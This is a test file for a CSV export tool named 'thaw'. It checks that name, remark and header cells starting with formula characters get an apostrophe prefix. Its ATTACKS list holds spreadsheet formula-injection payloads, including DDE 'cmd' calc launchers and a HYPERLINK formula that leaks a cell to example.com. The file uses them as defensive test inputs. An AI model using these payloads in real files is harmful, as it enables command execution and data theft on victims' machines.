"""Issue 17, item 12: no CSV thaw writes carries a cell a spreadsheet would evaluate."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from tests.conftest import publish
from thaw.cli import app
from thaw.model import Name, Record
from thaw.spreadsheet import SafeDictWriter, SafeWriter, safe_cell
from thaw.store import Store

ATTACKS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://example.com/?leak="&A1,"click")',
]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_cells_are_neutralised(value: str) -> None:
    assert safe_cell(value) == "'" + value


def test_ordinary_cells_and_numbers_unchanged() -> None:
    for value in ("Kirill Dmitriev", "-12.5", "+7", "0.8123", "", "a=b", "ACME - Trading"):
        assert safe_cell(value) == value
    assert safe_cell(None) == ""
    assert safe_cell("AB\x00C") == "AB\ufffdC"
    assert safe_cell("=\x00") == "'=\ufffd"


def _is_safe(cell: str) -> bool:
    return "\x00" not in cell and (not cell.startswith(("=", "+", "-", "@", "\t", "\r")))


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_writers_apply_it_to_header_and_rows() -> None:
    out = io.StringIO()
    SafeWriter(out).writerow(["=1", "ok", -3])
    writer = SafeDictWriter(out, fieldnames=["=evil", "b"])
    writer.writeheader()
    writer.writerow({"=evil": "@x", "b": "fine"})
    cells = _cells(out.getvalue())
    assert cells == ["'=1", "ok", "-3", "'=evil", "b", "'@x", "fine"]


def test_compare_file_output_is_safe(tmp_path: Path) -> None:
    pairs = tmp_path / "pairs.csv"
    with pairs.open("w", newline="", encoding="utf-8") as fh:
        out = csv.writer(fh)
        out.writerow(["name1", "name2", "=note"])
        for attack in ATTACKS:
            out.writerow([attack, "Kirill Dmitriev", attack])
        out.writerow(["Nul\x00Name", "Kirill Dmitriev", "x"])
    scored = tmp_path / "scored.csv"
    run = CliRunner().invoke(app, ["compare-file", str(pairs), "--output", str(scored)])
    assert run.exit_code == 0, run.output
    text = scored.read_text(encoding="utf-8")
    assert all(_is_safe(c) for c in _cells(text)), text
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][2] == "'=note" and rows[1][0] == "'" + ATTACKS[0]


def test_export_csv_is_safe(tmp_path: Path) -> None:
    home = tmp_path / "home"
    with Store(home) as store:
        publish(
            store,
            "un_sc",
            [
                Record("un_sc", f"QDi.{i}", "Person", names=[Name(a)], remarks=[a])
                for i, a in enumerate(ATTACKS[:4])
            ]
            + [Record("un_sc", "QDi.9", "Person", names=[Name("Nul\x00Byte")])],
        )
    out = tmp_path / "out.csv"
    run = CliRunner().invoke(
        app, ["export", "--format", "csv", "--output", str(out), "--home", str(home)]
    )
    assert run.exit_code == 0, run.output
    cells = _cells(out.read_text(encoding="utf-8"))
    assert "'" + ATTACKS[0] in cells
    assert all(_is_safe(c) for c in cells)


def test_changes_csv_is_safe(tmp_path: Path) -> None:
    home = tmp_path / "home"
    with Store(home) as store:
        publish(store, "un_sc", [Record("un_sc", "1", "Person", names=[Name("Plain")])])
        publish(
            store,
            "un_sc",
            [Record("un_sc", "1", "Person", names=[Name("=cmd|' /C calc'!A0")])],
            published="2024-02-01",
        )
    run = CliRunner().invoke(app, ["changes", "--home", str(home), "--csv"])
    assert run.exit_code == 0, run.output
    cells = _cells(run.stdout)
    assert "'=cmd|' /C calc'!A0" in cells
    assert all(_is_safe(c) for c in cells)
